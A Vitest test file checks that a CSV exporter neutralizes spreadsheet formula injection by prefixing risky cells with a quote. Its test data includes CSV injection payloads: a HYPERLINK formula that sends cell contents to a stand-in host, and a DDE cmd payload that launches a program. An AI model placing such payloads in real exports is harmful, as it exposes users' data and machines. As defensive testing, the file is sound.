import { describe, expect, it } from 'vitest'
import { csvCell, toCsv } from '../src/desk/csv'
import { historyCsv } from '../src/desk/historyCsv'

describe('CSV cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
  it.each([
    ['=', '=HYPERLINK("http://x.example/?"&A1,"ok")', `"'=HYPERLINK(""http://x.example/?""&A1,""ok"")"`],
    ['+', '+1+cmd|\' /C calc\'!A0', `"'+1+cmd|' /C calc'!A0"`],
    ['-', '-2+3', `"'-2+3"`],
    ['@', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['tab', '\t=1+1', `"'\t=1+1"`],
    ['carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('a text starting with %s gets a leading quote and is quoted', (_name, text, cell) => {
    expect(csvCell(text)).toBe(cell)
  })

  it('leaves numbers as numbers, negative ones included', () => {
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(-0.5)).toBe('-0.5')
    expect(csvCell(42)).toBe('42')
    // The same figures as text (JSON values in the history export) are plain numbers too.
    expect(csvCell('-3')).toBe('-3')
    expect(csvCell('+2.5')).toBe('+2.5')
    expect(csvCell('-.5')).toBe('-.5')
  })

  it('leaves other text alone, a trigger character further in included', () => {
    expect(csvCell('Pallet wrap')).toBe('Pallet wrap')
    expect(csvCell('A-01-01|SKU-2')).toBe('A-01-01|SKU-2')
    expect(csvCell('a=b')).toBe('a=b')
    expect(csvCell('2026-11-25')).toBe('2026-11-25')
    expect(csvCell(null)).toBe('')
    expect(csvCell(true)).toBe('true')
  })

  it('neutralizes whole exports: draft POs, KPI tables, history', () => {
    expect(toCsv(['sku', 'name', 'qty'], [['=1+1', '@x', -3]])).toBe(`sku,name,qty\r\n"'=1+1","'@x",-3\r\n`)
    const csv = historyCsv([
      { hash: 'h', actor: 'a', seq: 1, made_at: '2026-11-25T10:00:00.000Z', received_at: '2026-11-25T10:00:01.000Z', user_id: '3', user_email: '=cmd@x.example', device: '-dev', peer_id: 'fw-3', ops: [{ path: 'entries[0].qty', action: 'put', before: 9, after: -3 }], more_ops: 0 },
    ])
    expect(csv.split('\r\n')[1]).toContain(`"'=cmd@x.example","'-dev"`)
    expect(csv.split('\r\n')[1]).toMatch(/,-3$/)
  })
})
